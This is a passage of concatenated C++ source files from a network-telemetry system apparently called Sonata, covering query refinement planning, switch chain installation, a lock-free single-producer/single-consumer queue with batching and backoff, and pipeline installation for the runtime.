      pq.source_remap.emplace(level, std::move(remap));
    }
  }
  return plan;
}

}  // namespace sonata::planner
