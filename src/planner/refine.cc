#include "planner/refine.h"

#include <cassert>

#include "query/field.h"

namespace sonata::planner {

using query::Expr;
using query::ExprPtr;
using query::OpKind;
using query::Operator;
using query::Query;
using query::StreamNode;

namespace {

// Coarsen an expression to `level` for the key's kind. Identity at the
// finest level.
ExprPtr coarsen(const RefinementKey& key, ExprPtr e, int level) {
  if (level >= key.finest_level()) return e;
  return key.is_dns ? Expr::dns_prefix(std::move(e), level)
                    : Expr::ip_prefix(std::move(e), level);
}

// Index of the last reduce in a chain, or npos.
std::size_t last_reduce(const std::vector<Operator>& ops) {
  for (std::size_t i = ops.size(); i-- > 0;) {
    if (ops[i].kind == OpKind::kReduce) return i;
  }
  return static_cast<std::size_t>(-1);
}

}  // namespace

std::optional<RefinementKey> trace_refinement_key(const StreamNode& node,
                                                  const std::string& column) {
  RefinementKey key;
  key.key_column = column;
  std::string current = column;
  for (std::size_t i = node.ops.size(); i-- > 0;) {
    const Operator& op = node.ops[i];
    switch (op.kind) {
      case OpKind::kMap: {
        const query::NamedExpr* found = nullptr;
        std::size_t proj = 0;
        for (std::size_t p = 0; p < op.projections.size(); ++p) {
          if (op.projections[p].name == current) {
            found = &op.projections[p];
            proj = p;
            break;
          }
        }
        if (!found) return std::nullopt;  // column does not survive this map
        if (!found->expr || found->expr->kind != Expr::Kind::kCol) {
          return std::nullopt;  // derived by arithmetic; not a clean rename
        }
        current = found->expr->col;
        key.intro_map_op = i;
        key.intro_proj = proj;
        break;
      }
      case OpKind::kReduce: {
        bool is_key = false;
        for (const auto& k : op.keys) is_key = is_key || k == current;
        if (!is_key) return std::nullopt;  // it's the aggregate, not a key
        break;
      }
      case OpKind::kFilter:
      case OpKind::kFilterIn:
      case OpKind::kDistinct:
        break;  // column passes through unchanged
    }
  }
  const auto* field = query::FieldRegistry::instance().find(current);
  if (!field || !field->hierarchical) return std::nullopt;
  key.source_field = current;
  key.is_dns = field->kind == query::ValueKind::kString;
  return key;
}

std::optional<RefinementKey> find_refinement_key(const StreamNode& node) {
  const std::size_t r = last_reduce(node.ops);
  if (r == static_cast<std::size_t>(-1)) return std::nullopt;
  // Try each reduce key; prefer the first that traces to a hierarchical
  // source field.
  for (const auto& k : node.ops[r].keys) {
    // Trace from the node output: the key column survives the reduce and
    // any trailing filters, so tracing from the end is equivalent as long
    // as no trailing map renames it — trace handles that generally.
    if (auto key = trace_refinement_key(node, k)) return key;
  }
  return std::nullopt;
}

std::shared_ptr<StreamNode> make_refined_node(const StreamNode& node, const RefinementKey& key,
                                              const RefineOptions& opts) {
  assert(node.kind == StreamNode::Kind::kSource);
  auto out = std::make_shared<StreamNode>();
  out->kind = StreamNode::Kind::kSource;
  out->ops = node.ops;

  // 1. Coarsen the key column at its introduction point (Figure 4's
  //    "Map dIP/16"), or append an in-place coarsening map when the key is
  //    the raw source field (keeps the full schema; runs at the SP side of
  //    the join for raw-packet sources like Zorro's left input).
  if (opts.level < key.finest_level()) {
    if (key.intro_map_op) {
      Operator& m = out->ops[*key.intro_map_op];
      m.projections[key.intro_proj].expr =
          coarsen(key, m.projections[key.intro_proj].expr, opts.level);
    } else {
      // Identity map over the node's output schema with the key coarsened.
      const query::Schema& schema = node.output_schema();
      std::vector<query::NamedExpr> projections;
      projections.reserve(schema.size());
      for (const auto& c : schema.columns()) {
        ExprPtr e = Expr::column(c.name);
        if (c.name == key.key_column) e = coarsen(key, std::move(e), opts.level);
        projections.push_back({c.name, std::move(e)});
      }
      out->ops.push_back(Operator::map(std::move(projections)));
    }
  }

  // 2. Relax the trailing threshold filter (the filter right after the last
  //    reduce, comparing the aggregate against a constant).
  if (opts.relaxed_threshold) {
    const std::size_t r = last_reduce(out->ops);
    if (r != static_cast<std::size_t>(-1) && r + 1 < out->ops.size() &&
        out->ops[r + 1].kind == OpKind::kFilter && out->ops[r + 1].predicate &&
        out->ops[r + 1].predicate->kind == Expr::Kind::kBin) {
      const Expr& p = *out->ops[r + 1].predicate;
      if ((p.op == query::BinOp::kGt || p.op == query::BinOp::kGe) && p.lhs && p.rhs &&
          p.rhs->kind == Expr::Kind::kConst) {
        out->ops[r + 1].predicate = Expr::bin(p.op, p.lhs, Expr::lit(*opts.relaxed_threshold));
      }
    }
  }

  // 3. Prepend the dynamic filter fed by the previous level's output
  //    (Figure 4's "Filter dIP/8"). The first level of a chain has none.
  if (opts.prev_level != kNoPrevLevel) {
    std::vector<ExprPtr> match;
    match.push_back(coarsen(key, Expr::column(key.source_field), opts.prev_level));
    out->ops.insert(out->ops.begin(),
                    Operator::filter_in(std::move(match), opts.filter_table_name));
  }

  const std::string err = query::validate_stream_node(*out);
  assert(err.empty() && "refined node failed validation");
  (void)err;
  return out;
}

namespace {

// Deep-copy a tree, replacing each source (in DFS order) via `refiner`.
std::shared_ptr<StreamNode> clone_with_sources(
    const StreamNode& node, int& source_counter,
    const std::function<std::shared_ptr<StreamNode>(const StreamNode&, int)>& refiner) {
  if (node.kind == StreamNode::Kind::kSource) {
    return refiner(node, source_counter++);
  }
  auto out = std::make_shared<StreamNode>();
  out->kind = StreamNode::Kind::kJoin;
  out->join_keys = node.join_keys;
  out->left = clone_with_sources(*node.left, source_counter, refiner);
  out->right = clone_with_sources(*node.right, source_counter, refiner);
  out->ops = node.ops;
  return out;
}

}  // namespace

bool has_stateful_op(const StreamNode& node) {
  for (const auto& op : node.ops) {
    if (op.stateful()) return true;
  }
  return false;
}

namespace {

// Clone the join skeleton keeping only surviving sources; join-node ops are
// dropped (post-join operators are excluded from winner queries). Returns
// nullptr for fully-excluded subtrees.
query::StreamNodePtr winner_tree(const StreamNode& node, int& counter,
                                 const std::vector<std::shared_ptr<StreamNode>>& per_source) {
  if (node.kind == StreamNode::Kind::kSource) {
    return per_source.at(static_cast<std::size_t>(counter++));
  }
  auto left = winner_tree(*node.left, counter, per_source);
  auto right = winner_tree(*node.right, counter, per_source);
  if (!left) return right;
  if (!right) return left;
  auto out = std::make_shared<StreamNode>();
  out->kind = StreamNode::Kind::kJoin;
  out->join_keys = node.join_keys;
  out->left = std::move(left);
  out->right = std::move(right);
  return out;
}

}  // namespace

query::Query make_winner_query(const query::Query& base, int level,
                               const std::vector<std::shared_ptr<StreamNode>>& per_source) {
  int counter = 0;
  auto root = winner_tree(*base.root(), counter, per_source);
  assert(root && "winner query with no surviving sources");
  query::Query out(base.name() + "@W" + std::to_string(level), base.id(), base.window(),
                   std::move(root));
  out.set_state_spec(base.state_spec());
  const std::string err = out.validate();
  assert(err.empty() && "winner query failed validation");
  (void)err;
  return out;
}

std::vector<int> winner_source_remap(const query::Query& base) {
  std::vector<int> remap;
  int next = 0;
  for (const auto* src : base.sources()) {
    remap.push_back(has_stateful_op(*src) ? next++ : -1);
  }
  return remap;
}

std::vector<std::size_t> relaxable_filters(const std::vector<Operator>& ops) {
  std::vector<std::size_t> out;
  for (std::size_t i = 0; i < ops.size(); ++i) {
    const Operator& op = ops[i];
    if (op.kind != OpKind::kFilter || !op.predicate) continue;
    const Expr& p = *op.predicate;
    if (p.kind != Expr::Kind::kBin) continue;
    if (p.op != query::BinOp::kGt && p.op != query::BinOp::kGe) continue;
    if (!p.lhs || !p.rhs) continue;
    if (p.lhs->kind != Expr::Kind::kCol) continue;
    if (p.rhs->kind != Expr::Kind::kConst || !p.rhs->constant.is_uint()) continue;
    out.push_back(i);
  }
  return out;
}

void apply_threshold_relaxations(std::vector<Operator>& ops,
                                 const std::map<std::size_t, std::uint64_t>& relaxed) {
  for (const auto& [idx, constant] : relaxed) {
    if (idx >= ops.size()) continue;
    Operator& op = ops[idx];
    if (op.kind != OpKind::kFilter || !op.predicate) continue;
    const Expr& p = *op.predicate;
    op.predicate = Expr::bin(p.op, p.lhs, Expr::lit(constant));
  }
}

Query make_level_query(const Query& q, const std::vector<RefinementKey>& keys, int level,
                       const std::vector<std::optional<std::uint64_t>>& relaxed,
                       const std::map<std::size_t, std::uint64_t>* root_relaxed) {
  int counter = 0;
  auto root = clone_with_sources(
      *q.root(), counter,
      [&](const StreamNode& src, int index) -> std::shared_ptr<StreamNode> {
        RefineOptions opts;
        opts.level = level;
        opts.prev_level = kNoPrevLevel;
        opts.relaxed_threshold = relaxed.at(static_cast<std::size_t>(index));
        return make_refined_node(src, keys.at(static_cast<std::size_t>(index)), opts);
      });
  if (root_relaxed && root->kind == StreamNode::Kind::kJoin) {
    apply_threshold_relaxations(root->ops, *root_relaxed);
  }
  Query out(q.name() + "@L" + std::to_string(level), q.id(), q.window(), std::move(root));
  const std::string err = out.validate();
  assert(err.empty() && "level query failed validation");
  (void)err;
  return out;
}

}  // namespace sonata::planner
