// Dynamic query refinement: key detection and query augmentation
// (paper §4.1, Figure 4).
//
// A refinement key is a hierarchical field (IPv4 address, DNS name) behind
// the key column of the query's final stateful operator (or behind the join
// key, for sources with no stateful operator of their own — e.g. the raw
// packet side of the Zorro query). Refining at level r rewrites a source
// chain to:
//   * prepend a filter_in that keeps only traffic whose coarse key was
//     reported by the previous refinement level in the previous window, and
//   * coarsen the key column (mask the IP to /r, truncate the DNS name to
//     r labels) where it is introduced, and
//   * relax the trailing threshold (computed from training data) so coarse
//     levels never drop traffic the original query would report.
#pragma once

#include <cstdint>
#include <map>
#include <memory>
#include <optional>
#include <string>

#include "query/query.h"

namespace sonata::planner {

// Sentinel refinement level meaning "the original, unrefined granularity".
inline constexpr int kFinestIpLevel = 32;
inline constexpr int kFinestDnsLevel = 255;
// Sentinel for "no previous level" (the coarsest step of a chain, *->r).
inline constexpr int kNoPrevLevel = -1;

struct RefinementKey {
  std::string key_column;    // column name at the node's output
  std::string source_field;  // hierarchical packet field behind it
  bool is_dns = false;       // IP prefixes vs DNS label counts
  // Where the key column is introduced: the map op whose projection
  // `intro_proj` creates it. nullopt when the key is the raw source field
  // (no map introduces it) — coarsening then appends an in-place map.
  std::optional<std::size_t> intro_map_op;
  std::size_t intro_proj = 0;

  [[nodiscard]] int finest_level() const noexcept {
    return is_dns ? kFinestDnsLevel : kFinestIpLevel;
  }
};

// Trace `column` (a name in the node's *output* schema) backwards through
// the op chain to a hierarchical source field. Returns nullopt if the trace
// fails (renamed through arithmetic, not hierarchical, ...).
[[nodiscard]] std::optional<RefinementKey> trace_refinement_key(const query::StreamNode& node,
                                                                const std::string& column);

// Refinement key for a source node: the hierarchical key of its last
// stateful operator. For nodes without stateful operators, callers should
// trace the parent join key instead.
[[nodiscard]] std::optional<RefinementKey> find_refinement_key(const query::StreamNode& node);

// Options for building one refined source chain.
struct RefineOptions {
  int level = kFinestIpLevel;      // granularity to execute at
  int prev_level = kNoPrevLevel;   // previous chain level (kNoPrevLevel: none)
  std::string filter_table_name;   // filter_in table id (when prev_level set)
  // Replacement for the trailing threshold filter's constant (relaxed
  // threshold at coarse levels); nullopt keeps the original.
  std::optional<std::uint64_t> relaxed_threshold;
};

// Build the augmented copy of a source node per RefineOptions. The result
// is validated (schemas computed). Coarsening at the finest level is a
// no-op, so refined and original chains agree at the finest granularity.
[[nodiscard]] std::shared_ptr<query::StreamNode> make_refined_node(
    const query::StreamNode& node, const RefinementKey& key, const RefineOptions& opts);

// Clone a whole query with every source refined at one level (no filter_in,
// thresholds optionally relaxed per source). Used by the estimator to
// compute per-level winner sets. `relaxed[i]` applies to source i;
// `root_relaxed` (optional) maps root-chain op indices of post-join
// threshold filters to their relaxed constants.
[[nodiscard]] query::Query make_level_query(
    const query::Query& q, const std::vector<RefinementKey>& keys, int level,
    const std::vector<std::optional<std::uint64_t>>& relaxed,
    const std::map<std::size_t, std::uint64_t>* root_relaxed = nullptr);

// Build the *winner query* for a coarse refinement level: the query whose
// per-window output keys seed the next level's dynamic filters. Faithful to
// the paper's §4.2 and the Figure 9 case study:
//   * only sources with stateful operators execute (raw-packet sides of a
//     join — e.g. Zorro's payload stream — run at the finest level only);
//   * post-join operators are excluded entirely (payload scans cannot run
//     at coarse granularity; dropping filters before ">"-thresholds is
//     strictly conservative, so no winner is ever missed);
//   * each surviving source is replaced by `per_source[i]` (the planned,
//     augmented chain for that level: coarsened keys, relaxed thresholds,
//     dynamic filter fed by the previous level).
// `per_source[i]` may be null for excluded sources. Returns a validated
// query; at least one source must survive.
[[nodiscard]] query::Query make_winner_query(
    const query::Query& base, int level,
    const std::vector<std::shared_ptr<query::StreamNode>>& per_source);

// Executor-side source indices: remap[i] is the position of original
// source i among surviving sources (-1 if excluded at coarse levels).
[[nodiscard]] std::vector<int> winner_source_remap(const query::Query& base);

// True if the source node contains a stateful operator (distinct/reduce).
[[nodiscard]] bool has_stateful_op(const query::StreamNode& node);

// Threshold filters eligible for relaxation in an op chain: kFilter ops
// whose predicate is (column > constant) or (column >= constant).
[[nodiscard]] std::vector<std::size_t> relaxable_filters(
    const std::vector<query::Operator>& ops);

// Rewrite the constants of threshold filters in `ops` (op index -> new
// constant). Ops not present in the map are left alone.
void apply_threshold_relaxations(std::vector<query::Operator>& ops,
                                 const std::map<std::size_t, std::uint64_t>& relaxed);

}  // namespace sonata::planner
