// Shared chain-install machinery for the planners.
//
// A ChainInstaller places one query's refinement chain on top of a partial
// switch layout: greedy max-partition-with-backoff per pipeline, register
// sizing with the collision-overflow model, exact stage layout (C1-C5) as
// the feasibility oracle. It owns the per-query caches the search re-visits
// (refined nodes, semantic max partitions, the Monte-Carlo overflow model),
// so both the joint branch-and-bound (planner.cc) and the incremental
// planner (incremental.cc) reuse identical state — and produce identical
// installs for identical inputs.
//
// Installs can be constrained by per-tenant resource limits (InstallLimits):
// a budget caps the match-action tables and register bits one install may
// consume, and may forbid the partition-0 raw-mirror fallback — which makes
// rejection possible, and is what turns tenant budgets into real isolation.
#pragma once

#include <cstdint>
#include <map>
#include <memory>
#include <optional>
#include <tuple>
#include <vector>

#include "planner/planner.h"

namespace sonata::planner {

[[nodiscard]] std::string filter_table_name(query::QueryId qid, int source, int level);

// Switch footprint of one install: the tenant-budget accounting unit.
struct Footprint {
  std::uint64_t tables = 0;         // match-action tables across stages
  std::uint64_t register_bits = 0;  // register memory across stateful tables
};

// Per-install resource constraints (defaults: unconstrained).
struct InstallLimits {
  std::uint64_t max_tables = ~std::uint64_t{0};
  std::uint64_t max_register_bits = ~std::uint64_t{0};
  bool allow_mirror = true;  // may a pipeline fall back to partition 0?
  // Pick the smallest feasible partition per pipeline instead of the
  // cheapest (used to compute the smallest budget that would admit).
  bool minimize_footprint = false;
};

struct Installed {
  PlannedQuery pq;
  std::uint64_t n = 0;  // SP tuple contribution, excluding the shared raw charge
  bool raw = false;     // some pipeline stays at partition 0 (raw mirror)
  Footprint footprint;  // resources this install appended
};

class ChainInstaller {
 public:
  // Owns a fresh estimator built over `windows` (the expensive, cacheable
  // part of planning: estimator construction replays every training window).
  ChainInstaller(const PlannerConfig& cfg, const query::Query& q,
                 const std::vector<TupleWindow>& windows, std::uint64_t window_packets);
  // Borrows `est` (EstimatorPool reuse); `est` must outlive the installer.
  ChainInstaller(const PlannerConfig& cfg, const query::Query& q, CostEstimator* est,
                 std::uint64_t window_packets);

  [[nodiscard]] CostEstimator& estimator() { return *est_; }
  [[nodiscard]] const query::Query& base() const noexcept { return *q_; }

  // Candidate refinement chains for the config's mode (finest last), in
  // enumerate_chains order (shorter first).
  [[nodiscard]] std::vector<std::vector<int>> chains();

  // The cheapest possible N for a chain assuming maximal partitions fit
  // (the admissible per-query bound of the branch-and-bound).
  [[nodiscard]] std::uint64_t optimistic_cost(const std::vector<int>& chain);

  // Install `chain` on top of `res`, appending the resources of every
  // partition >= 1 pipeline. Returns nullopt — with `res` restored — when
  // no placement satisfies `limits` (cannot happen with default limits:
  // partition 0 always fits). `force_all_sp` pins every pipeline to
  // partition 0 (the all-raw fallback layout).
  std::optional<Installed> install(const std::vector<int>& chain,
                                   std::vector<pisa::ProgramResources>& res, bool raw_already,
                                   bool force_all_sp, const InstallLimits& limits = {});

 private:
  std::size_t max_partition(int source, int prev, int level);
  std::shared_ptr<query::StreamNode> refined_node(int source, int prev, int level);
  std::vector<std::size_t> partition_choices(const query::StreamNode& node, std::size_t max_p,
                                             bool force_all_sp) const;
  std::uint64_t estimate_overflow_keys(std::uint64_t k, std::size_t n, int d);

  const PlannerConfig* cfg_;
  const query::Query* q_;
  std::unique_ptr<CostEstimator> owned_;
  CostEstimator* est_;
  std::uint64_t window_packets_ = 0;

  std::map<std::tuple<int, int, int>, std::shared_ptr<query::StreamNode>> node_cache_;
  std::map<std::tuple<int, int, int>, std::size_t> max_partition_cache_;
  std::map<std::tuple<std::uint64_t, std::size_t, int>, std::uint64_t> overflow_cache_;
};

// Build the executable plan from chosen installs: stage layout, per-level
// exec queries (winner queries at coarse levels, the full tree at the
// finest) and source remaps. Clears any stale exec state first, so a stored
// PlannedQuery can be re-assembled after plan mutations.
[[nodiscard]] Plan assemble_plan(const PlannerConfig& cfg, std::vector<PlannedQuery> queries,
                                 std::vector<pisa::ProgramResources> resources, bool raw_mirror,
                                 std::uint64_t window_packets, std::uint64_t objective);

}  // namespace sonata::planner
