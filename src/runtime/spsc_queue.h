// Bounded single-producer / single-consumer ring buffer.
//
// The fleet's ingest path: the driver thread (sole producer) routes each
// packet to its ingress switch's queue; that switch's worker (sole
// consumer) drains it. Lock-free — one release store per side; the
// producer's store publishes the slot, the consumer's acquire load pairs
// with it, so popped values are fully visible without locks (and clean
// under ThreadSanitizer).
#pragma once

#include <atomic>
#include <cstddef>
#include <vector>

namespace sonata::runtime {

template <typename T>
class SpscQueue {
 public:
  // `capacity` is rounded up to a power of two (minimum 2).
  explicit SpscQueue(std::size_t capacity) {
    std::size_t cap = 2;
    while (cap < capacity) cap <<= 1;
    slots_.resize(cap);
  }

  SpscQueue(const SpscQueue&) = delete;
  SpscQueue& operator=(const SpscQueue&) = delete;

  // Producer side. Returns false when the ring is full.
  bool try_push(const T& v) {
    const std::size_t head = head_.load(std::memory_order_relaxed);
    if (head - tail_.load(std::memory_order_acquire) == slots_.size()) return false;
    slots_[head & (slots_.size() - 1)] = v;
    head_.store(head + 1, std::memory_order_release);
    return true;
  }

  // Consumer side. Returns false when the ring is empty.
  bool try_pop(T& out) {
    const std::size_t tail = tail_.load(std::memory_order_relaxed);
    if (tail == head_.load(std::memory_order_acquire)) return false;
    out = std::move(slots_[tail & (slots_.size() - 1)]);
    tail_.store(tail + 1, std::memory_order_release);
    return true;
  }

  [[nodiscard]] bool empty() const {
    return tail_.load(std::memory_order_acquire) == head_.load(std::memory_order_acquire);
  }

  [[nodiscard]] std::size_t capacity() const noexcept { return slots_.size(); }

 private:
  std::vector<T> slots_;
  alignas(64) std::atomic<std::size_t> head_{0};  // producer-written
  alignas(64) std::atomic<std::size_t> tail_{0};  // consumer-written
};

}  // namespace sonata::runtime
