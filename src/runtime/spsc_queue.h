// Bounded single-producer / single-consumer ring buffer.
//
// The fleet's ingest path: the driver thread (sole producer) routes each
// packet to its ingress switch's queue; that switch's worker (sole
// consumer) drains it. Lock-free — one release store per side; the
// producer's store publishes the slot, the consumer's acquire load pairs
// with it, so popped values are fully visible without locks (and clean
// under ThreadSanitizer).
//
// The batch operations are the backbone of the batched data path: a whole
// span of elements is moved through the ring with ONE acquire/release pair
// per side, amortizing the cache-line ping-pong on head_/tail_ over the
// batch (~256 packets) instead of paying it per packet.
#pragma once

#include <atomic>
#include <chrono>
#include <cstddef>
#include <cstdint>
#include <span>
#include <thread>
#include <utility>
#include <vector>

namespace sonata::runtime {

// Bounded-spin exponential backoff for the fleet's busy-wait loops.
//
// A raw `while (!try) yield()` spin is the batch=1 anti-scaling culprit:
// with more workers than cores, a spinning producer burns the exact
// timeslice the consumer needs to drain, so adding threads makes the ring
// SLOWER. Backoff keeps the first probes cheap (pause), escalates to
// yield, then parks in exponentially growing sleeps (1us .. 256us) so a
// stalled peer gets whole timeslices back. Counters are local; the owner
// flushes them to obs at a quiet point (window close), keeping the hot
// loop free of shared-cache traffic.
class Backoff {
 public:
  void pause() {
    if (spins_ < kSpinLimit) {
      ++spins_;
#if defined(__x86_64__) || defined(__i386__)
      __builtin_ia32_pause();
#endif
      return;
    }
    if (spins_ < kSpinLimit + kYieldLimit) {
      ++spins_;
      ++yields_;
      std::this_thread::yield();
      return;
    }
    ++sleeps_;
    std::this_thread::sleep_for(std::chrono::microseconds(sleep_us_));
    if (sleep_us_ < kMaxSleepUs) sleep_us_ <<= 1;
  }

  // Progress was made: restart the cheap-spin phase.
  void reset() noexcept {
    spins_ = 0;
    sleep_us_ = 1;
  }

  // True once this episode has escalated to its longest sleep — a caller
  // with a condition variable should park instead of sleeping again.
  [[nodiscard]] bool exhausted() const noexcept { return sleep_us_ >= kMaxSleepUs; }

  // Cumulative escalations since construction (not cleared by reset()):
  // how often the loop had to give up its timeslice, and how often it had
  // to sleep. The fleet publishes these as
  // sonata_fleet_backoffs_total / sonata_fleet_sleeps_total.
  [[nodiscard]] std::uint64_t yields() const noexcept { return yields_; }
  [[nodiscard]] std::uint64_t sleeps() const noexcept { return sleeps_; }

 private:
  static constexpr std::uint32_t kSpinLimit = 64;
  static constexpr std::uint32_t kYieldLimit = 16;
  static constexpr std::uint32_t kMaxSleepUs = 256;
  std::uint32_t spins_ = 0;
  std::uint32_t sleep_us_ = 1;
  std::uint64_t yields_ = 0;
  std::uint64_t sleeps_ = 0;
};

template <typename T>
class SpscQueue {
 public:
  // `capacity` is rounded up to a power of two (minimum 2).
  explicit SpscQueue(std::size_t capacity) {
    std::size_t cap = 2;
    while (cap < capacity) cap <<= 1;
    slots_.resize(cap);
  }

  SpscQueue(const SpscQueue&) = delete;
  SpscQueue& operator=(const SpscQueue&) = delete;

  // Producer side. Returns false when the ring is full.
  bool try_push(const T& v) {
    const std::size_t head = head_.load(std::memory_order_relaxed);
    if (head - tail_.load(std::memory_order_acquire) == slots_.size()) return false;
    slots_[head & (slots_.size() - 1)] = v;
    head_.store(head + 1, std::memory_order_release);
    return true;
  }

  // Producer side, deferred: write `v` into the next ring slot WITHOUT
  // publishing it. Staged slots become visible to the consumer only at the
  // next publish() — the ring itself is the batch buffer, so a batched
  // producer pays one release store (and zero extra copies) per run.
  // Returns false when the ring is full of published + staged elements;
  // the producer must then publish() and let the consumer drain.
  // Must not be mixed with try_push/try_push_batch on the same queue.
  bool try_stage(const T& v) {
    if (staged_head_ - cached_tail_ == slots_.size()) {
      cached_tail_ = tail_.load(std::memory_order_acquire);
      if (staged_head_ - cached_tail_ == slots_.size()) return false;
    }
    slots_[staged_head_ & (slots_.size() - 1)] = v;
    ++staged_head_;
    return true;
  }

  // Publish every staged element with a single release store. Returns true
  // when the consumer could have observed an empty ring immediately before
  // (i.e. it may be asleep and need a wakeup).
  bool publish() {
    const std::size_t head = head_.load(std::memory_order_relaxed);
    const bool was_empty = tail_.load(std::memory_order_acquire) == head;
    if (staged_head_ != head) head_.store(staged_head_, std::memory_order_release);
    return was_empty;
  }

  // Producer side, batched: moves as many elements of `xs` as fit into the
  // ring and publishes them with a single release store. Returns how many
  // were pushed (a prefix of `xs`); moved-from elements must be discarded.
  std::size_t try_push_batch(std::span<T> xs) {
    const std::size_t head = head_.load(std::memory_order_relaxed);
    const std::size_t free = slots_.size() - (head - tail_.load(std::memory_order_acquire));
    const std::size_t n = xs.size() < free ? xs.size() : free;
    if (n == 0) return 0;
    for (std::size_t i = 0; i < n; ++i) {
      slots_[(head + i) & (slots_.size() - 1)] = std::move(xs[i]);
    }
    head_.store(head + n, std::memory_order_release);
    return n;
  }

  // Consumer side. Returns false when the ring is empty.
  bool try_pop(T& out) {
    const std::size_t tail = tail_.load(std::memory_order_relaxed);
    if (tail == head_.load(std::memory_order_acquire)) return false;
    out = std::move(slots_[tail & (slots_.size() - 1)]);
    tail_.store(tail + 1, std::memory_order_release);
    return true;
  }

  // Consumer side, zero-copy: a view of up to `max` available elements,
  // clipped to the contiguous run before the ring wraps (a wrapped batch
  // simply surfaces as two runs). The consumer processes elements in place
  // — no move out of the ring — then retire()s them; the producer cannot
  // reuse the slots until then, so the view stays valid.
  [[nodiscard]] std::span<const T> front_run(std::size_t max) {
    const std::size_t tail = tail_.load(std::memory_order_relaxed);
    const std::size_t avail = head_.load(std::memory_order_acquire) - tail;
    std::size_t n = avail < max ? avail : max;
    const std::size_t pos = tail & (slots_.size() - 1);
    const std::size_t contiguous = slots_.size() - pos;
    if (n > contiguous) n = contiguous;
    // Start the fetch of the run the consumer will ask for next (the slots
    // right after this view, wrapped) while it chews on this one.
    if (n != 0 && n == contiguous) __builtin_prefetch(slots_.data());
    if (n != 0 && n < avail) __builtin_prefetch(slots_.data() + ((tail + n) & (slots_.size() - 1)));
    return {slots_.data() + pos, n};
  }

  // Retire `n` elements previously viewed via front_run with a single
  // release store, returning their slots to the producer.
  void retire(std::size_t n) {
    tail_.store(tail_.load(std::memory_order_relaxed) + n, std::memory_order_release);
  }

  // Consumer side, batched: moves up to `max` available elements into
  // `out` (appending) and retires them with a single release store.
  // Returns how many were popped.
  std::size_t try_pop_batch(std::vector<T>& out, std::size_t max) {
    const std::size_t tail = tail_.load(std::memory_order_relaxed);
    const std::size_t avail = head_.load(std::memory_order_acquire) - tail;
    const std::size_t n = avail < max ? avail : max;
    if (n == 0) return 0;
    for (std::size_t i = 0; i < n; ++i) {
      out.push_back(std::move(slots_[(tail + i) & (slots_.size() - 1)]));
    }
    tail_.store(tail + n, std::memory_order_release);
    return n;
  }

  [[nodiscard]] bool empty() const {
    return tail_.load(std::memory_order_acquire) == head_.load(std::memory_order_acquire);
  }

  [[nodiscard]] std::size_t capacity() const noexcept { return slots_.size(); }

 private:
  std::vector<T> slots_;
  // Producer-private staging cursor (slots written, not yet published) and
  // a cached view of tail_ so a staged write usually costs zero atomics.
  std::size_t staged_head_ = 0;
  std::size_t cached_tail_ = 0;
  alignas(64) std::atomic<std::size_t> head_{0};  // producer-written
  alignas(64) std::atomic<std::size_t> tail_{0};  // consumer-written
};

}  // namespace sonata::runtime
