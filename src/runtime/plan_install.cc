#include "runtime/plan_install.h"

#include <algorithm>
#include <utility>

#include "obs/metrics.h"

namespace sonata::runtime {

namespace {

bool sizing_equal(const std::map<std::size_t, pisa::RegisterSizing>& a,
                  const std::map<std::size_t, pisa::RegisterSizing>& b) {
  if (a.size() != b.size()) return false;
  auto ita = a.begin();
  for (auto itb = b.begin(); itb != b.end(); ++ita, ++itb) {
    if (ita->first != itb->first || ita->second.entries != itb->second.entries ||
        ita->second.depth != itb->second.depth) {
      return false;
    }
  }
  return true;
}

// A reusable pipeline matches when it was compiled from the *same chain
// object* with the same options. The node pointer is a sound identity key:
// the incremental planner keeps each active query's augmented nodes alive
// (installer caches) and unchanged placements carry the same shared_ptr
// into the next plan, while both plans are alive during the match.
bool matches(const pisa::CompiledSwitchQuery& compiled, const planner::PlannedPipeline& p,
             const pisa::CompiledSwitchQuery::Options& want) {
  const auto& have = compiled.options();
  return &compiled.node() == p.node.get() && have.qid == want.qid &&
         have.source_index == want.source_index && have.level == want.level &&
         have.partition == want.partition && have.hash_seed == want.hash_seed &&
         sizing_equal(have.sizing, want.sizing);
}

}  // namespace

PipelineBuild build_pipelines(const planner::Plan& plan,
                              std::vector<std::unique_ptr<pisa::CompiledSwitchQuery>> reusable,
                              const PipelineBuildOptions& build_opts) {
  PipelineBuild out;
  for (const planner::PlannedQuery& pq : plan.queries) {
    for (const planner::PlannedPipeline& p : pq.pipelines) {
      if (p.partition == 0) continue;
      pisa::CompiledSwitchQuery::Options opts;
      opts.qid = p.qid;
      opts.source_index = p.source_index;
      opts.level = p.level;
      opts.partition = p.partition;
      opts.sizing = p.sizing;
      // Register pressure (fault injection): install with registers sized
      // for traffic that has since drifted and/or an adversarial hash seed.
      if (build_opts.register_shrink > 1) {
        for (auto& [op, rs] : opts.sizing) {
          rs.entries = std::max<std::size_t>(8, rs.entries / build_opts.register_shrink);
        }
      }
      opts.hash_seed = build_opts.hash_seed;

      std::unique_ptr<pisa::CompiledSwitchQuery> compiled;
      for (auto& candidate : reusable) {
        if (candidate && matches(*candidate, p, opts)) {
          compiled = std::move(candidate);
          compiled->reset_runtime_state();
          ++out.reused;
          break;
        }
      }
      if (!compiled) {
        compiled = std::make_unique<pisa::CompiledSwitchQuery>(*p.node, opts);
        ++out.recompiled;
      }
      out.pipelines.push_back(std::move(compiled));
      out.resources.push_back(pisa::build_resources(*p.node, p.partition, p.sizing, p.qid,
                                                    p.source_index, p.level));
    }
  }
  if (obs::enabled()) {
    auto& reg = obs::Registry::global();
    reg.counter("sonata_pipelines_recompiled_total").add(out.recompiled);
    reg.counter("sonata_pipelines_reused_total").add(out.reused);
  }
  return out;
}

}  // namespace sonata::runtime
