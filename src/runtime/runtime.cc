#include "runtime/runtime.h"

#include <cassert>

#include "util/log.h"

namespace sonata::runtime {

using planner::kNoPrevLevel;
using planner::PlannedPipeline;
using planner::PlannedQuery;
using query::Tuple;

void Emitter::deliver(const pisa::EmitRecord& rec, stream::QueryExecutor& exec,
                      int exec_source_index) {
  ++total_;
  auto& s = stats_[rec.qid];
  ++s.tuples;
  if (rec.kind == pisa::EmitRecord::Kind::kOverflow) ++s.overflows;
  if (rec.kind != pisa::EmitRecord::Kind::kKeyReport) {
    // Key reports only notify the SP which registers to poll; the polled
    // aggregates are ingested at window end.
    exec.ingest(exec_source_index, rec.tuple, rec.op_index);
  }
}

Runtime::Runtime(planner::Plan plan) : plan_(std::move(plan)), switch_(plan_.switch_config) {
  // Build executable switch pipelines + resources for installed partitions.
  std::vector<std::unique_ptr<pisa::CompiledSwitchQuery>> pipelines;
  std::vector<pisa::ProgramResources> resources;
  for (const PlannedQuery& pq : plan_.queries) {
    QueryState qs;
    qs.pq = &pq;
